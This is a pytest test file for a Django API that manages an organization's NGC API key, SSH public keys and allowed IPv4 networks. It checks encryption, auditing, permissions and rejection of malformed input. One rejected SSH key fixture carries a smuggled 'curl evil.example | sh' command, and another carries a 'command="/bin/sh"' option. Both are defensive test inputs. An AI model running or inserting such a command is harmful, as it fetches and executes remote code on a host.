"""Cloud access through the API: SSH keys, the NGC API key and allowed networks — and every bad input refused with
nothing changed."""

from __future__ import annotations

import pytest
from rest_framework.test import APIClient

from core.secrets import decrypt_secret
from provisioning.models import AllowedCidr, CloudProfile
from tenants.audit import Actor
from tenants.choices import Role
from tenants.models import AuditEvent, SshKey
from tenants.services import api_key_create
from tests.provisioning import keys

pytestmark = pytest.mark.django_db
NGC = "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"
BASE = "/api/v1/organizations/rheinwerk"


def client_of(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def key_client(organization, owner, scopes) -> APIClient:
    _key, token = api_key_create(actor=Actor.for_user(owner), organization=organization, name="CI", scopes=scopes)
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {token}")
    return client


def audit_actions(organization) -> list[str]:
    return list(AuditEvent.objects.for_organization(organization).order_by("id").values_list("action", flat=True))


# --- The NGC API key ------------------------------------------------------------------------------------------------


def test_the_ngc_key_is_stored_encrypted_shown_by_its_last_four_and_audited_without_it(organization, owner):
    client = client_of(owner)

    put = client.put(f"{BASE}/cloud-profile/", {"ngc_api_key": f"  {NGC}\n"}, format="json")
    get = client.get(f"{BASE}/cloud-profile/")

    assert put.status_code == 200
    assert put.json() == get.json() == {"has_ngc_api_key": True, "ngc_api_key_last4": "4eXo"}
    stored = CloudProfile.objects.for_organization(organization).get()
    assert NGC not in stored.ngc_api_key_encrypted
    assert decrypt_secret(stored.ngc_api_key_encrypted) == NGC
    event = AuditEvent.objects.for_organization(organization).get(action="cloud_profile.ngc_api_key_set")
    assert event.data == {"replaced": False}
    assert NGC not in str(list(AuditEvent.objects.unscoped().values_list("data", "target_label")))


def test_replacing_and_removing_the_ngc_key(organization, owner):
    client = client_of(owner)
    client.put(f"{BASE}/cloud-profile/", {"ngc_api_key": NGC}, format="json")

    replaced = client.put(f"{BASE}/cloud-profile/", {"ngc_api_key": "nvapi-" + "A" * 40 + "wxyz"}, format="json")
    removed = client.delete(f"{BASE}/cloud-profile/ngc-api-key/")
    again = client.delete(f"{BASE}/cloud-profile/ngc-api-key/")

    assert replaced.json() == {"has_ngc_api_key": True, "ngc_api_key_last4": "wxyz"}
    assert (removed.status_code, again.status_code) == (204, 204)
    assert client.get(f"{BASE}/cloud-profile/").json() == {"has_ngc_api_key": False, "ngc_api_key_last4": ""}
    assert audit_actions(organization) == [
        "cloud_profile.ngc_api_key_set",
        "cloud_profile.ngc_api_key_set",
        "cloud_profile.ngc_api_key_removed",
    ]


@pytest.mark.parametrize(
    ("value", "message"),
    [
        (
            "nvapi-Zm9vYmFy YmF6cXV4MTIzNDU2Nzg5",
            "The NGC API key contains spaces or line breaks: copy it again, as one piece.",
        ),
        (
            "nvapi-Zm9vYmFy\nYmF6cXV4MTIzNDU2Nzg5",
            "The NGC API key contains spaces or line breaks: copy it again, as one piece.",
        ),
        ("my-ngc-password", "This does not look like an NGC API key (nvapi-… from ngc.nvidia.com, Setup, API Keys)."),
        ("nvapi-short", "This does not look like an NGC API key (nvapi-… from ngc.nvidia.com, Setup, API Keys)."),
        ("   ", "Paste the NGC API key."),
    ],
)
def test_an_ngc_key_of_the_wrong_shape_is_refused_and_the_old_one_kept(organization, owner, value, message):
    client = client_of(owner)
    client.put(f"{BASE}/cloud-profile/", {"ngc_api_key": NGC}, format="json")
    before = CloudProfile.objects.for_organization(organization).get().ngc_api_key_encrypted

    response = client.put(f"{BASE}/cloud-profile/", {"ngc_api_key": value}, format="json")

    assert response.status_code == 400
    assert response.json()["fields"] == {"ngc_api_key": [message]}
    assert CloudProfile.objects.for_organization(organization).get().ngc_api_key_encrypted == before
    assert audit_actions(organization) == ["cloud_profile.ngc_api_key_set"]


def test_an_api_key_with_cloud_write_sets_the_ngc_key_and_one_with_cloud_read_cannot(organization, owner):
    writer = key_client(organization, owner, ["cloud:write"])
    reader = key_client(organization, owner, ["cloud:read"])

    refused = reader.put(f"{BASE}/cloud-profile/", {"ngc_api_key": NGC}, format="json")
    assert refused.status_code == 403
    assert not CloudProfile.objects.for_organization(organization).exists()

    accepted = writer.put(f"{BASE}/cloud-profile/", {"ngc_api_key": NGC}, format="json")
    assert accepted.status_code == 200
    assert reader.get(f"{BASE}/cloud-profile/").json()["has_ngc_api_key"] is True


def test_members_and_viewers_cannot_set_the_ngc_key(organization, member_of):
    for role in (Role.MEMBER, Role.VIEWER, Role.BILLING):
        response = client_of(member_of(organization, role)).put(
            f"{BASE}/cloud-profile/", {"ngc_api_key": NGC}, format="json"
        )
        assert response.status_code == 403
    assert not CloudProfile.objects.for_organization(organization).exists()


# --- SSH keys -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("make", "key_type", "bits"),
    [
        (keys.ed25519_key, "ssh-ed25519", 256),
        (keys.ecdsa_key, "ecdsa-sha2-nistp384", 384),
        (keys.rsa_key, "ssh-rsa", 3072),
    ],
)
def test_a_shared_key_is_added_with_its_fingerprint(organization, owner, make, key_type, bits):
    public_key = make()

    response = client_of(owner).post(
        f"{BASE}/ssh-keys/", {"name": "Deploy", "public_key": public_key + "\n"}, format="json"
    )

    assert response.status_code == 201
    body = response.json()
    key = SshKey.objects.for_organization(organization).get()
    assert body == {
        "id": key.pk,
        "name": "Deploy",
        "fingerprint": keys.fingerprint(public_key),
        "key_type": key_type,
        "bits": bits,
        "public_key": public_key,
        "shared": True,
        "owner": None,
        "created_at": body["created_at"],
    }
    event = AuditEvent.objects.for_organization(organization).get(action="ssh_key.added")
    assert event.data == {"name": "Deploy", "fingerprint": keys.fingerprint(public_key), "shared": True}


def test_a_member_adds_and_removes_an_own_key_but_not_a_shared_one(organization, owner, member_of):
    member = member_of(organization, Role.MEMBER)
    client = client_of(member)

    shared = client.post(f"{BASE}/ssh-keys/", {"name": "Shared", "public_key": keys.ed25519_key()}, format="json")
    own = client.post(
        f"{BASE}/ssh-keys/", {"name": "Mine", "public_key": keys.ecdsa_key(), "personal": True}, format="json"
    )

    assert shared.status_code == 403
    assert own.status_code == 201
    assert own.json()["owner"] == member.email
    org_key = client_of(owner).post(
        f"{BASE}/ssh-keys/", {"name": "Org", "public_key": keys.ed25519_key()}, format="json"
    )
    assert client.delete(f"{BASE}/ssh-keys/{org_key.json()['id']}/").status_code == 403
    assert client.delete(f"{BASE}/ssh-keys/{own.json()['id']}/").status_code == 204
    assert list(SshKey.objects.for_organization(organization).values_list("name", flat=True)) == ["Org"]


UNSUPPORTED = "are not supported; use ssh-ed25519, ecdsa-sha2-nistp256/384/521 or ssh-rsa."
OPTIONS = "Remove the options in front of the key (such as command= or from=): they are not allowed."
TRAILING = "The text after the key looks like a command or holds characters a comment may not: remove it."
PRIVATE = (
    "This is a private key. Never paste a private key anywhere: paste the public key (the .pub file) instead. "
    "Nothing was stored."
)
SHORT = "This RSA key has 2048 bits; at least 3072 are needed (or use ssh-ed25519)."
ONE_LINE = "Paste one public key on one line."
FIDO = "sk-ssh-ed25519@openssh.com AAAAGnNrLXNzaC1lZDI1NTE5QG9wZW5zc2guY29t x@y"
BAD_KEYS = [
    pytest.param(keys.dsa_key, f"Keys of type ssh-dss {UNSUPPORTED}", id="dsa"),
    pytest.param(lambda: FIDO, f"Keys of type sk-ssh-ed25519@openssh.com {UNSUPPORTED}", id="fido"),
    pytest.param(lambda: keys.rsa_key(2048), SHORT, id="short-rsa"),
    pytest.param(lambda: 'command="/bin/sh" ' + keys.ed25519_key(), OPTIONS, id="options"),
    pytest.param(lambda: 'from="10.0.0.1",no-pty ' + keys.ed25519_key(), OPTIONS, id="from-option"),
    pytest.param(lambda: keys.ed25519_key() + " ; curl evil.example | sh", TRAILING, id="trailing-command"),
    pytest.param(lambda: keys.ed25519_key()[:60], "The key's data is damaged or incomplete.", id="truncated"),
    pytest.param(lambda: keys.ed25519_key() + "\n" + keys.ecdsa_key(), ONE_LINE, id="two-keys"),
    pytest.param(keys.private_key, PRIVATE, id="private-key"),
]  # fmt: skip


@pytest.mark.parametrize(("make", "message"), BAD_KEYS)
def test_a_bad_key_is_refused_with_the_reason_and_nothing_is_stored(organization, owner, make, message):
    text = make()

    response = client_of(owner).post(f"{BASE}/ssh-keys/", {"name": "Bad", "public_key": text}, format="json")

    assert response.status_code == 400
    assert response.json()["fields"] == {"public_key": [message]}
    assert not SshKey.objects.for_organization(organization).exists()
    assert audit_actions(organization) == []
    if "PRIVATE" in text:
        assert "PRIVATE" not in response.content.decode()


def test_a_duplicated_key_is_refused_and_nothing_changes(organization, owner, member_of):
    public_key = keys.ed25519_key()
    client_of(owner).post(f"{BASE}/ssh-keys/", {"name": "First", "public_key": public_key}, format="json")

    again = client_of(member_of(organization, Role.MEMBER)).post(
        f"{BASE}/ssh-keys/",
        {"name": "Again", "public_key": public_key.replace("ada@laptop", "other comment"), "personal": True},
        format="json",
    )

    assert again.status_code == 400
    assert again.json()["fields"] == {
        "public_key": [f"This key ({keys.fingerprint(public_key)}) is already in the organization."]
    }
    assert list(SshKey.objects.for_organization(organization).values_list("name", flat=True)) == ["First"]
    assert audit_actions(organization) == ["ssh_key.added"]


def test_an_api_key_with_cloud_write_manages_shared_keys_and_cannot_add_personal_ones(organization, owner):
    client = key_client(organization, owner, ["cloud:write"])

    personal = client.post(
        f"{BASE}/ssh-keys/", {"name": "CI", "public_key": keys.ed25519_key(), "personal": True}, format="json"
    )
    shared = client.post(f"{BASE}/ssh-keys/", {"name": "CI", "public_key": keys.ed25519_key()}, format="json")
    listed = key_client(organization, owner, ["cloud:read"]).get(f"{BASE}/ssh-keys/")

    assert personal.status_code == 400
    assert personal.json()["fields"] == {"personal": ["An API key adds only the organization's keys."]}
    assert shared.status_code == 201
    assert [row["name"] for row in listed.json()["results"]] == ["CI"]
    assert (
        key_client(organization, owner, ["cloud:read"]).delete(f"{BASE}/ssh-keys/{shared.json()['id']}/").status_code
        == 403
    )
    assert client.delete(f"{BASE}/ssh-keys/{shared.json()['id']}/").status_code == 204
    assert not SshKey.objects.for_organization(organization).exists()


def test_another_organizations_key_is_a_404_and_stays(organization, other_organization, owner, member_of):
    other_owner = member_of(other_organization, Role.OWNER)
    created = client_of(other_owner).post(
        "/api/v1/organizations/delft/ssh-keys/", {"name": "Delft", "public_key": keys.ed25519_key()}, format="json"
    )

    response = client_of(owner).delete(f"{BASE}/ssh-keys/{created.json()['id']}/")

    assert response.status_code == 404
    assert SshKey.objects.for_organization(other_organization).count() == 1


# --- Allowed networks -----------------------------------------------------------------------------------------------


def test_a_network_is_allowed_in_canonical_form_and_removed(organization, owner):
    client = client_of(owner)

    added = client.post(f"{BASE}/allowed-cidrs/", {"cidr": " 85.214.7.9/16 ", "description": "Office"}, format="json")

    assert added.status_code == 201
    assert {k: v for k, v in added.json().items() if k != "created_at"} == {
        "id": added.json()["id"],
        "cidr": "85.214.0.0/16",
        "description": "Office",
        "broad_confirmed": False,
    }
    assert client.delete(f"{BASE}/allowed-cidrs/{added.json()['id']}/").status_code == 204
    assert not AllowedCidr.objects.for_organization(organization).exists()
    assert audit_actions(organization) == ["allowed_cidr.added", "allowed_cidr.removed"]


def test_a_broad_network_needs_a_confirmation(organization, owner):
    client = client_of(owner)

    refused = client.post(f"{BASE}/allowed-cidrs/", {"cidr": "0.0.0.0/0"}, format="json")

    assert refused.status_code == 400
    assert refused.json()["fields"] == {
        "confirm_broad": [
            "0.0.0.0/0 opens your servers to 4,294,967,296 addresses — the whole internet. Confirm that you want this."
        ]
    }
    assert not AllowedCidr.objects.for_organization(organization).exists()
    confirmed = client.post(f"{BASE}/allowed-cidrs/", {"cidr": "0.0.0.0/0", "confirm_broad": True}, format="json")
    assert confirmed.status_code == 201
    assert confirmed.json()["broad_confirmed"] is True


PRIVATE_RANGE = (
    "{} is a private or reserved range: it can never reach a public address. Allow the public address your "
    "connections come from."
)
IPV6 = "Only IPv4 networks can be allowed: public addresses are IPv4 ({} is IPv6)."


@pytest.mark.parametrize(
    ("cidr", "message"),
    [
        ("85.214.0.0/33", "85.214.0.0/33 is not a network: write it like 85.214.0.0/16."),
        ("85.214.0/16", "85.214.0/16 is not a network: write it like 85.214.0.0/16."),
        ("office", "office is not a network: write it like 85.214.0.0/16."),
        ("2a01:4f8::/32", IPV6.format("2a01:4f8::/32")),
        ("::ffff:85.214.0.0/112", IPV6.format("::ffff:55d6:0/112")),
        ("10.0.0.0/8", PRIVATE_RANGE.format("10.0.0.0/8")),
        ("192.168.1.0/24", PRIVATE_RANGE.format("192.168.1.0/24")),
        ("127.0.0.1/32", PRIVATE_RANGE.format("127.0.0.1/32")),
        ("100.64.0.0/10", PRIVATE_RANGE.format("100.64.0.0/10")),
    ],
)  # fmt: skip
def test_bad_networks_are_refused_and_nothing_is_stored(organization, owner, cidr, message):
    response = client_of(owner).post(f"{BASE}/allowed-cidrs/", {"cidr": cidr, "confirm_broad": True}, format="json")

    assert response.status_code == 400
    assert response.json()["fields"] == {"cidr": [message]}
    assert not AllowedCidr.objects.for_organization(organization).exists()
    assert audit_actions(organization) == []


def test_a_network_allowed_twice_is_refused(organization, owner):
    client = client_of(owner)
    client.post(f"{BASE}/allowed-cidrs/", {"cidr": "85.214.0.0/16"}, format="json")

    again = client.post(f"{BASE}/allowed-cidrs/", {"cidr": "85.214.1.0/16"}, format="json")

    assert again.status_code == 400
    assert again.json()["fields"] == {"cidr": ["85.214.0.0/16 is allowed already."]}
    assert AllowedCidr.objects.for_organization(organization).count() == 1
